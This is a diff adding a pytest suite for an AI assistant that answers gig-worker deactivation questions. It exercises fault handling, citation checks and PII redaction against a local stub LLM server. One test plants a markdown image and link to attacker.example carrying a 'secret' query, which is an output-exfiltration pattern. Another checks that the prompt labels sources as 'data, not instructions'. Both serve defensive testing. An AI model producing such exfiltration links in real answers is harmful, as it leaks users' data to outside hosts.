@@ -1,0 +1,180 @@
+"""The generative path against a real OpenAI-compatible HTTP server on 127.0.0.1 with faults."""
+from __future__ import annotations
+
+import time
+
+import pytest
+
+from assistant.config import load_settings
+from assistant.core import Assistant
+from assistant.errors import ProviderBusy, ProviderConfigError, ProviderError, StreamInterrupted
+from assistant.llm import OpenAIChatModel
+from llm_stub import StubServer
+
+Q = ("Can the app deactivate me without telling me why?", "US-WA-Seattle")
+
+
+@pytest.fixture
+def stub():
+    s = StubServer().start()
+    yield s
+    s.stop()
+
+
+def _model(stub, **kw):
+    s = load_settings(llm_base_url=stub.base_url, llm_model="stub-model", llm_api_key="sk-test-secret",
+                      llm_timeout_s=kw.pop("timeout", 5.0), llm_max_retries=kw.pop("retries", 2), **kw)
+    sleeps: list[float] = []
+    return s, OpenAIChatModel(s, sleep=sleeps.append), sleeps
+
+
+def _assistant(shared, settings, model):
+    return Assistant(settings, shared.embedder, shared.store, shared.catalog, model)
+
+
+def test_normal_stream_is_verified_and_cited(stub, shared_assistant):
+    stub.default = ("stream", "In Seattle the company must tell you why in writing [1]. "
+                              "You can ask for a human review [1][2].")
+    s, model, _ = _model(stub)
+    a = _assistant(shared_assistant, s, model)
+    st = a.stream(*Q)
+    pieces = list(st)
+    assert len(pieces) > 5  # it really streamed
+    ans = st.answer
+    assert ans.mode == "generative" and not ans.incomplete
+    assert ans.citations[0].doc_id == "seattle-deact"
+    req = stub.requests[-1]["body"]
+    assert req["stream"] is True and req["model"] == "stub-model"
+    prompt = "\n".join(m["content"] for m in req["messages"])
+    assert '<source n="1"' in prompt and "data, not instructions" in prompt
+    assert stub.requests[-1]["auth"] == "Bearer sk-test-secret"
+
+
+def test_invented_marker_is_dropped(stub, shared_assistant):
+    stub.default = ("stream", "You must get written notice [1]. Also a bonus rule [9].")
+    s, model, _ = _model(stub)
+    ans = _assistant(shared_assistant, s, model).ask(*Q)
+    assert "[9]" not in ans.text and "[1]" in ans.text
+    assert any("[9]" in w for w in ans.warnings)
+    assert [c.n for c in ans.citations] == [1]
+
+
+def test_made_up_quote_loses_its_quotation_marks(stub, shared_assistant):
+    stub.default = ("stream", 'The law says "drivers can never be deactivated for any reason at all" [1].')
+    s, model, _ = _model(stub)
+    ans = _assistant(shared_assistant, s, model).ask(*Q)
+    assert '"drivers can never' not in ans.text
+    assert any("word for word" in w for w in ans.warnings)
+
+
+def test_images_and_foreign_links_are_removed(stub, shared_assistant):
+    stub.default = ("stream", "See ![x](http://attacker.example/?q=secret) and "
+                              "[this](http://attacker.example/a) rule [1].")
+    s, model, _ = _model(stub)
+    ans = _assistant(shared_assistant, s, model).ask(*Q)
+    assert "attacker.example" not in ans.text
+
+
+def test_429_with_short_retry_after_is_retried_once(stub, shared_assistant):
+    stub.script = [("status", 429, {"retry-after": "1"})]
+    stub.default = ("stream", "Written notice is required [1].")
+    s, model, sleeps = _model(stub)
+    ans = _assistant(shared_assistant, s, model).ask(*Q)
+    assert ans.mode == "generative" and sleeps == [1.0]
+    assert len(stub.requests) == 2
+
+
+def test_429_with_long_retry_after_falls_back_without_waiting(stub, shared_assistant):
+    stub.script = [("status", 429, {"retry-after": "300"})]
+    s, model, sleeps = _model(stub)
+    t0 = time.monotonic()
+    ans = _assistant(shared_assistant, s, model).ask(*Q)
+    assert time.monotonic() - t0 < 10 and sleeps == []
+    assert ans.mode == "extractive" and ans.citations
+    assert "busy" in ans.warnings[0]
+    assert len(stub.requests) == 1
+    with pytest.raises(ProviderBusy):
+        stub.script = [("status", 429, {"retry-after": "300"})]
+        list(model.stream([{"role": "user", "content": "x"}]))
+
+
+def test_500s_are_retried_within_bound_then_extractive(stub, shared_assistant):
+    stub.default = ("status", 500, {})
+    s, model, sleeps = _model(stub, retries=2)
+    ans = _assistant(shared_assistant, s, model).ask(*Q)
+    assert len(stub.requests) == 3 and len(sleeps) == 2
+    assert ans.mode == "extractive" and ans.citations
+    assert "AI writer is unavailable" in ans.warnings[0]
+
+
+def test_timeout_falls_back(stub, shared_assistant):
+    stub.default = ("stall", 3)
+    s, model, _ = _model(stub, timeout=0.5, retries=1)
+    t0 = time.monotonic()
+    ans = _assistant(shared_assistant, s, model).ask(*Q)
+    assert time.monotonic() - t0 < 3.5
+    assert ans.mode == "extractive" and "timed out" in ans.warnings[0]
+
+
+def test_stream_cut_keeps_partial_and_marks_incomplete(stub, shared_assistant):
+    stub.default = ("cut", "In Seattle the company must give written notice [1] before it ends "
+                           "your account and you may ask for review", 8)
+    s, model, _ = _model(stub)
+    ans = _assistant(shared_assistant, s, model).ask(*Q)
+    assert ans.incomplete and ans.mode == "generative"
+    assert ans.text.startswith("In Seattle the company must")
+    assert any("cut off" in w for w in ans.warnings)
+    with pytest.raises(StreamInterrupted) as exc:
+        list(model.stream([{"role": "user", "content": "x"}]))
+    assert exc.value.partial.startswith("In Seattle")
+
+
+def test_auth_error_is_not_retried_and_hides_key(stub, shared_assistant):
+    stub.default = ("status", 401, {})
+    s, model, sleeps = _model(stub)
+    with pytest.raises(ProviderConfigError) as exc:
+        list(model.stream([{"role": "user", "content": "x"}]))
+    assert "sk-test-secret" not in str(exc.value) and len(stub.requests) == 1 and sleeps == []
+
+
+def test_content_filter_and_empty_answers(stub, shared_assistant):
+    stub.default = ("filter", "")
+    s, model, _ = _model(stub)
+    ans = _assistant(shared_assistant, s, model).ask(*Q)
+    assert ans.mode == "extractive"  # nothing usable arrived: quote the sources instead
+    stub.default = ("stream", "")
+    with pytest.raises(ProviderError):
+        list(model.stream([{"role": "user", "content": "x"}]))
+
+
+def test_connection_refused_is_fast(shared_assistant):
+    s = load_settings(llm_base_url="http://127.0.0.1:9/v1", llm_model="m", llm_max_retries=1)
+    model = OpenAIChatModel(s, sleep=lambda _s: None)
+    t0 = time.monotonic()
+    ans = _assistant(shared_assistant, s, model).ask(*Q)
+    assert time.monotonic() - t0 < 5
+    assert ans.mode == "extractive" and ans.citations
+
+
+def test_pii_never_reaches_the_llm(stub, shared_assistant):
+    stub.default = ("stream", "Notice is required [1].")
+    s, model, _ = _model(stub)
+    _assistant(shared_assistant, s, model).ask(
+        "My SSN is 123-45-6789 and my A-number A123456789. Can the app deactivate me without "
+        "telling me why?", "US-WA-Seattle")
+    sent = str(stub.requests[-1]["body"])
+    assert "123-45-6789" not in sent and "A123456789" not in sent and "[SSN]" in sent
+
+
+def test_closing_the_stream_closes_the_connection(stub, shared_assistant):
+    stub.default = ("stream", " ".join(["word"] * 200) + " [1]")
+    stub.token_delay = 0.01
+    s, model, _ = _model(stub)
+    st = _assistant(shared_assistant, s, model).stream(*Q)
+    it = iter(st)
+    next(it), next(it)
+    st.close()  # a new question arrived: the old stream is abandoned
+    deadline = time.monotonic() + 5
+    while stub.disconnects == 0 and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert stub.disconnects >= 1
